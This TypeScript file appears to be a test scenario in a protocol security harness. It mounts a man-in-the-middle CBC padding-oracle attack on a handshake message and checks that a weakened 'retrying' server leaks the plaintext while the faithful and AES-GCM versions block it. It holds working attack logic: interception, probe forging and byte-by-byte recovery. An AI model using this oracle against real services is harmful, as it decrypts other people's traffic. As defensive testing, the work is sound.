import {randomBytes} from 'node:crypto';
import {ClassicPath} from '../../protocol/classic/constants.js';
import {V2Path} from '../../protocol/v2/constants.js';
import {describeAnswer, describeRun, runClassicClient, runV2Client} from '../clients.js';
import type {MitmProxy} from '../proxy.js';
import {OracleRefused, recoverPlaintext, type PaddingOracle} from '../padding-oracle.js';
import {isPath, type Scenario, type ScenarioContext, type ScenarioReport} from '../scenario-kit.js';
import {flipBit} from '../tamper.js';
import type {OracleReport} from '../types.js';

type AnonymousBody = {client_ephemeral_public_key: string; message: string; iv: string};

const isMessage3 = (body: unknown): body is AnonymousBody =>
  typeof body === 'object' && body !== null && typeof (body as AnonymousBody).client_ephemeral_public_key === 'string' && typeof (body as AnonymousBody).message === 'string';

const PADDING_BAD = 'Invalid padding bytes.';
const PADDING_GOOD = 'The decrypted message is not JSON.';

/**
 * The oracle over the wire: a two-block probe `iv = R0, message = x ‖ block` on the victim's channel (the
 * random first block keeps the decrypted text from ever being valid JSON). The `--retrying` server answers
 * `Invalid padding bytes.` or "not JSON"; anything else means the server did not play along.
 */
function wireOracle(proxy: MitmProxy, channelKey: string): PaddingOracle {
  const r0 = randomBytes(16).toString('base64');
  return async (x, block) => {
    const message = Buffer.concat([x, block]).toString('base64');
    const answer = await proxy.inject('POST', ClassicPath.Sessions, {client_ephemeral_public_key: channelKey, message, iv: r0}, {quiet: true});
    const text = (answer.json as {message?: unknown} | undefined)?.message;
    if (text === PADDING_BAD) return false;
    if (text === PADDING_GOOD) return true;
    throw new OracleRefused(describeAnswer(answer.status, answer.json));
  };
}

/** The real plaintext with its PKCS#7 padding, as the ciphertext holds it. */
function padded(plaintext: Buffer): Buffer {
  const pad = 16 - (plaintext.length % 16);
  return Buffer.concat([plaintext, Buffer.alloc(pad, pad)]);
}

/** Runs the padding oracle on a held message 3 and compares what it found with the real A1 plaintext. */
async function attackChannel(ctx: ScenarioContext, proxy: MitmProxy, body: AnonymousBody, real: Buffer): Promise<OracleReport> {
  const iv = Buffer.from(body.iv, 'base64');
  const ciphertext = Buffer.from(body.message, 'base64');
  const timeLimitMs = ctx.oracle.timeLimitMs ?? 20_000;
  const maxQueries = ctx.oracle.maxQueries ?? 200_000;
  const started = Date.now();
  ctx.progress({type: 'oracle-start', suite: ctx.suite, totalBytes: real.length, blocks: ciphertext.length / 16, maxQueries, timeLimitMs});
  const result = await recoverPlaintext({
    iv, ciphertext, oracle: wireOracle(proxy, body.client_ephemeral_public_key),
    maxQueries, deadline: started + timeLimitMs, maxBlocks: ctx.oracle.maxBlocks, concurrency: ctx.oracle.concurrency,
    onByte: (b) => ctx.progress({type: 'oracle-byte', suite: ctx.suite, offset: b.offset, value: b.value, queries: b.queries, recovered: b.recovered, elapsedMs: Date.now() - started}),
  });
  const expected = padded(real);
  let wrongBytes = 0;
  let bytesRecovered = 0;
  result.plaintext.forEach((value, offset) => {
    if (value === undefined) return;
    if (value !== expected[offset]) wrongBytes++;
    else if (offset < real.length) bytesRecovered++;
  });
  const preview = result.plaintext.slice(0, real.length)
    .map((v) => (v === undefined ? '·' : v >= 0x20 && v < 0x7f ? String.fromCharCode(v) : '.')).join('');
  return {queries: result.queries, bytesRecovered, totalBytes: real.length, wrongBytes, preview, stoppedBy: result.stoppedBy, elapsedMs: Date.now() - started};
}

/** `classic-retrying`: the live attack; message 3 is held while the oracle runs, then delivered unchanged. */
async function retrying(ctx: ScenarioContext): Promise<ScenarioReport> {
  const repository = await ctx.env.retrying();
  const subject = await ctx.env.classicSubject(repository);
  const proxy = await ctx.proxy(repository);
  let plaintext: Buffer | undefined;
  let oracle: OracleReport | undefined;
  proxy.hooks = {
    async request(request) {
      if (!isPath(request, ClassicPath.Sessions) || !isMessage3(request.json) || !plaintext) return;
      oracle = await attackChannel(ctx, proxy, request.json, plaintext);
      return {action: 'forward', note: `held while the padding oracle ran (${oracle.queries} queries), then delivered unchanged`};
    },
  };
  const timeoutMs = (ctx.oracle.timeLimitMs ?? 20_000) + 20_000;
  const run = await runClassicClient(proxy.url, subject.config, {
    timeoutMs, onEvent: (e) => {
      if (e.type === 'step' && e.step === 'A1.2') plaintext = Buffer.from(String(e.inputs.plaintext), 'utf8');
    },
  });
  if (!oracle) throw new Error('the padding oracle did not run: message 3 never reached the proxy');
  const succeeded = oracle.bytesRecovered > 0 && oracle.wrongBytes === 0;
  ctx.attempt({
    name: `padding oracle on the held A1 (${oracle.totalBytes} bytes)`, succeeded,
    server: `${oracle.queries} answers, each "${PADDING_BAD}" or "${PADDING_GOOD}"; the channel survived every failure`,
    client: describeRun(run),
  });
  return {
    verdict: succeeded ? 'succeeded' : 'blocked', oracle,
    action: `held the client's A1 (message 3) and sent ${oracle.queries} two-block probes on its channel, recovering the plaintext byte by byte from the end of each block (stopped: ${oracle.stoppedBy}); then delivered the original`,
    client: `${describeRun(run)}: it never noticed`,
    server: `answered every probe and kept the channel; recovered ${oracle.bytesRecovered}/${oracle.totalBytes} bytes (${oracle.wrongBytes} wrong) in ${oracle.elapsedMs} ms: "${oracle.preview.slice(0, 60)}…"`,
    check: 'nothing: AES-CBC without a MAC, a channel kept after a failed decryption (--retrying) and distinct answers for bad padding and bad JSON make a padding oracle',
  };
}

/** `classic` (faithful): the first probe burns the channel. */
async function classic(ctx: ScenarioContext): Promise<ScenarioReport> {
  const subject = await ctx.env.classicSubject();
  const proxy = await ctx.proxy();
  const answers: string[] = [];
  let oracle: OracleReport | undefined;
  proxy.hooks = {
    async request(request) {
      const body = request.json;
      if (!isPath(request, ClassicPath.Sessions) || !isMessage3(body)) return;
      const started = Date.now();
      const result = await recoverPlaintext({
        iv: Buffer.from(body.iv, 'base64'), ciphertext: Buffer.from(body.message, 'base64'), concurrency: 1,
        oracle: async (x, block) => {
          const answer = await proxy.inject('POST', ClassicPath.Sessions, {client_ephemeral_public_key: body.client_ephemeral_public_key, message: Buffer.concat([x, block]).toString('base64'), iv: randomBytes(16).toString('base64')});
          answers.push(describeAnswer(answer.status, answer.json));
          throw new OracleRefused(answers[answers.length - 1]);
        },
      });
      const second = await proxy.inject('POST', ClassicPath.Sessions, flipBit(body, 'iv', 'base64'), {note: 'second probe'});
      answers.push(describeAnswer(second.status, second.json));
      oracle = {queries: result.queries, bytesRecovered: 0, totalBytes: 0, wrongBytes: 0, preview: '', stoppedBy: 'refused', elapsedMs: Date.now() - started};
      return {action: 'forward', note: 'the original A1, after the probes'};
    },
  };
  const run = await runClassicClient(proxy.url, subject.config);
  const secondRefused = /handshake_failed/.test(answers[1] ?? '');
  ctx.attempt({name: 'first probe on the held A1\'s channel', server: answers[0] ?? 'none', succeeded: false});
  ctx.attempt({name: 'second probe on the same channel', server: answers[1] ?? 'none', succeeded: !secondRefused});
  return {
    verdict: secondRefused ? 'blocked' : 'succeeded', oracle,
    action: "held the client's A1 and probed its channel with a crafted two-block ciphertext, then probed again",
    client: `${describeRun(run)} (its channel was spent by the probe)`,
    server: `first probe: ${answers[0]} (an encrypted refusal: no padding verdict visible); second probe: ${answers[1]}`,
    check: 'the reference pops K_anon before decrypting: one query per channel (our server: "names no pending key exchange", the reference: 500 KeyError)',
  };
}

/** `v2`: every answer is the same 401, and the channel is burnt by the first one. */
async function v2(ctx: ScenarioContext): Promise<ScenarioReport> {
  const proxy = await ctx.proxy();
  const bodies: string[] = [];
  const statuses: number[] = [];
  proxy.hooks = {
    async request(request) {
      if (!isPath(request, V2Path.A1)) return;
      for (const [i, field] of (['ciphertext', 'tag'] as const).entries()) {
        const answer = await proxy.inject('POST', V2Path.A1, flipBit(request.json, field, 'base64url', -1, i), {note: `probe: last byte of ${field} altered`});
        bodies.push(answer.raw.toString('utf8'));
        statuses.push(answer.status);
      }
      return {action: 'forward', note: 'the original A1, after the probes'};
    },
  };
  const run = await runV2Client(proxy.url, ctx.env.alice);
  const original = proxy.log.find((e) => e.origin === 'client' && e.path === V2Path.A1);
  const identical = bodies.length === 2 && bodies[0] === bodies[1] && statuses.every((s) => s === 401);
  const burnt = original?.status === 401 && JSON.stringify(original.response) === bodies[0];
  ctx.attempt({name: 'probe 1: altered ciphertext', server: `${statuses[0]} ${bodies[0]}`, succeeded: false});
  ctx.attempt({name: 'probe 2: altered tag', server: `${statuses[1]} ${bodies[1]}`, succeeded: !identical});
  ctx.attempt({name: 'the original A1 after the probes', server: `${original?.status} ${JSON.stringify(original?.response)}`, client: describeRun(run), succeeded: !burnt});
  return {
    verdict: identical && burnt ? 'blocked' : 'succeeded',
    oracle: {queries: 1, bytesRecovered: 0, totalBytes: 0, wrongBytes: 0, preview: '', stoppedBy: 'refused', elapsedMs: 0},
    action: "held the client's A1, sent two probes with altered ciphertext and tag on its channel, then the original",
    client: describeRun(run),
    server: `every answer byte-identical: ${statuses[0]} ${bodies[0]}`,
    check: 'A2.1: AES-256-GCM (no padding to probe); the channel is taken (deleted) before the one open, so the first probe burnt it; every failure is the same 401 handshake_failed',
  };
}

export const t02: Scenario = {id: 'T2', run: {v2, classic, 'classic-retrying': retrying}};
